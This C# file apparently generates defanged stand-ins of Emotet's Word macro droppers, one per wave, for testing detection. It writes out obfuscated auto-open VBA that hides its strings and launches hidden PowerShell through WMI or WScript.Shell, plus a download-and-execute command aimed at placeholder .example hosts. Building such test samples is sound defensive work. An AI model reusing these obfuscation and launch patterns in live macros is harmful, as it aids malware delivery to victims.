namespace Sekisho.SampleMaker;

/// <summary>One harmless stand-in for each generation of Emotet's VBA: built like the waves, hosts under .example, nothing that could work.</summary>
public static class EmotetMacros
{
    /// <summary>All of them by wave, as a file name and its content.</summary>
    public static IReadOnlyDictionary<string, (string Name, byte[] Content)> All { get; } = new Dictionary<string, (string, byte[])>(StringComparer.Ordinal)
    {
        ["2018-05"] = ("Rechnung.doc", DeadCode()),
        ["2019-06"] = ("DOC_0619.doc", SelectJunk()),
        ["2019-09"] = ("INFO_0919.doc", Revisions()),
        ["2020-01"] = ("保健所 20200129.doc", FormStorage()),
        ["2020-07"] = ("Invoice 0720.doc", RedDawn()),
        ["2021-11"] = ("Mail_1121.docm", Batch()),
    };

    /// <summary>2018-05: numbers that lead nowhere around a command in pieces.</summary>
    private static byte[] DeadCode() => Document(("ThisDocument", """
        Sub AutoOpen()
        On Error Resume Next
        RkwTzq = Tan(84213) + 9121 / Oct(45) - CDbl(77)
        DjFwv = ZtWsk + qPwXn + "md /" + "V:ON/C" + Chr(34) + "set x=" + VjKwqz
        vbShow = 12 - 12
        HzQwr = Sin(4411) * Atn(9) + Fix(81)
        Shell DjFwv + BnTqs, vbShow
        PcLvw = Log(33) / Sgn(2) + 14
        End Sub
        Function ZtWsk()
        LmWvq = CLng(88) + Tan(2)
        ZtWsk = "c"
        End Function
        Function VjKwqz()
        GfTrw = Round(7331) - 44
        VjKwqz = "pow" + "ers" + StrReverse("lleh") + " -e " + "JABmAG8AbwA9ACcAaAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQAnAA=="
        End Function
        Function BnTqs()
        BnTqs = Chr(34)
        End Function
        """));

    /// <summary>2019-06: Select Case without sense, the command in a form's text box.</summary>
    private static byte[] SelectJunk()
    {
        var file = FormWriter.AddForm(Word(), "Macros/w8_7k", ("j0a9", "", "powershell -enc JABXAGkAbgBkAG8AdwBzAD0AJwBoAHQAdABwADoALwAvAGIALgBlAHgAYQBtAHAAbABlACcA", ""));
        return Macros(file,
            ("S3k1lM", """
            Sub autoopen()
            On Error Resume Next
            Select Case f9Tk2w
            Case 3312
            h7Zq1 = CDate(221)
            w0Rp3 = 4 * Hex(912)
            End Select
            X4vt9
            End Sub
            """),
            ("K2d0qX", """
            Function X4vt9()
            On Error Resume Next
            Select Case p0Wz8k
            Case 881
            v3Hq7 = ChrB(12)
            End Select
            CreateObject("winmgmts" + ":Win32_Pro" + "cess").Create w8_7k.j0a9.Value, t1Nb6, q5Lx0, m8Yc2
            End Function
            """));
    }

    /// <summary>2019-09: a While over revisions as junk, a control's text in the middle of the word.</summary>
    private static byte[] Revisions() => Macros(Word(), ("ThisDocument", """
        Sub autoopen()
        Call driver
        End Sub
        """), ("Incredible", """
        Public Function driver()
        i = 0
        While i <= ActiveDocument.Revisions.Count
        Debug.Print "The driver of the interface connects the panel"
        i = i + 1
        Wend
        Set synthesize = CreateObject("winmgmts:Win32_ProcessStartup")
        synthesize.ShowWindow = 0
        quantify = "pow" + Replace(hacking(ThisDocument.bypass + "er#sh#ell"), "#", "") + " -en " + ThisDocument.panel
        CreateObject(Replace("winm*gmts:Win*32_Process", "*", "")).Create quantify, Null, synthesize, parse
        End Function
        Function hacking(calculate)
        hacking = calculate
        End Function
        """));

    /// <summary>2020-01: everything in the form: object names and command with a separator strewn in, both joined from tags and group names.</summary>
    private static byte[] FormStorage()
    {
        const string Strewn = "9fq1";
        var file = FormWriter.AddForm(Word(), "Macros/Kzqwpvhdx",
            ("Bvwqt", $"w{Strewn}in{Strewn}mg{Strewn}mts{Strewn}:W{Strewn}in32_{Strewn}Pro{Strewn}ce", "", ""),
            ("Mxrdk", "", "", $"po{Strewn}we{Strewn}rsh{Strewn}ell -w hid{Strewn}den -e{Strewn}n JAB4AD0AJwBoAHQAdABwADoALwAvAGMALgBlAHgAYQBtAHAAbABlACcA"));
        return Macros(file,
            ("ThisDocument", """
            Private Sub Document_open()
            Qhzkwbtd
            End Sub
            """),
            ("Vtqzkxj", """
            Function Qhzkwbtd()
            On Error Resume Next
            Do While Lxqtw < 2
            Lxqtw = Lxqtw + 1
            Gbwqz = Log(Sin(8123) * Cos(77)) + Sgn(1)
            Loop
            Zpwqk = Hrtxv(Kzqwpvhdx.Bvwqt.Tag) + "s" + "s"
            Set Nwqtz = GetObject(Left(Zpwqk, 9) + Mid(Zpwqk, 10))
            Set Tkqxv = GetObject(Hrtxv(Kzqwpvhdx.Bvwqt.Tag) + "ss" + "Startu" + ChrW(wdKeyP))
            Tkqxv.ShowWindow = False
            Nwqtz.Create Hrtxv(Kzqwpvhdx.Mxrdk.GroupName), Cbwqt, Tkqxv
            End Function
            Function Hrtxv(Pvqzt)
            Xwqkt = Split(Pvqzt, "9fq1")
            Hrtxv = Join(Xwqkt, "")
            End Function
            """));
    }

    /// <summary>2020-07 and 08: random words, a separator taken out, the object's name nowhere in one piece, the command in the document's own text.</summary>
    private static byte[] RedDawn() => Macros(Word(),
        ("Lq4bjrkwz2t", """
        Private Sub Document_open()
        Bv0wkqtz9xr
        End Sub
        """),
        ("Hk7xwqzrt1p", """
        Function Bv0wkqtz9xr()
        On Error Resume Next
        Wn3qkzt = ActiveDocument.StoryRanges.Item(1)
        Xt5wkqz = Mid(Wn3qkzt, 5, Len(Wn3qkzt))
        Rk2vqwz = "]an[wi]an[nm]an[gm]an[t]an[" + ChrW(wdKeyS) + "]an[:]an[win]an[32_]an[" + ChrW(wdKeyP) + "]an[ro]an[c]an[ess]an["
        Set Ym8qzkt = CreateObject(Pz6wtqk(Rk2vqwz))
        Ym8qzkt.Create Pz6wtqk(Xt5wkqz), Dj1wqzt, Gs4kqwt
        End Function
        Function Pz6wtqk(Qv9xkwt)
        Tr0zqwk = Split(Qv9xkwt, "]an[")
        Pz6wtqk = Join(Tr0zqwk, "")
        End Function
        """));

    /// <summary>2021-11: a script of seven addresses in one text, run through a hidden window.</summary>
    private static byte[] Batch() => OoxmlWriter.Document(new VbaProjectWriter().Add("ThisDocument", """
        Private Sub Document_Open()
        Dim sh As Object
        Set sh = CreateObject("wscript.shell")
        sh.Run Replace(Replace(command_line(), "~", ""), "%%", "://"), 0
        End Sub
        Private Function command_line() As String
        command_line = "pow~ersh~ell $dfkj=""$strs=\""http%%one.example/wp-content/x1/,http%%two.example/wp-admin/y2/\"".Spl~it(',');foreach($st in $strs){Invo~ke-WebRe~quest -Uri $st -OutFile C:\ProgramData\qwerty.dll}"";IE~X $dfkj"
        End Function
        """).ToArray());

    private static CompoundFileWriter Word() => new CompoundFileWriter().Add("WordDocument", new byte[5000]).Add("1Table", new byte[100]);

    private static byte[] Document(params (string Name, string Source)[] modules) => Macros(Word(), modules);

    private static byte[] Macros(CompoundFileWriter file, params (string Name, string Source)[] modules)
    {
        var project = new VbaProjectWriter();
        foreach (var (name, source) in modules)
        {
            project.Add(name, source.ReplaceLineEndings("\r\n"));
        }

        project.AddTo(file, "Macros");
        return file.ToArray();
    }
}
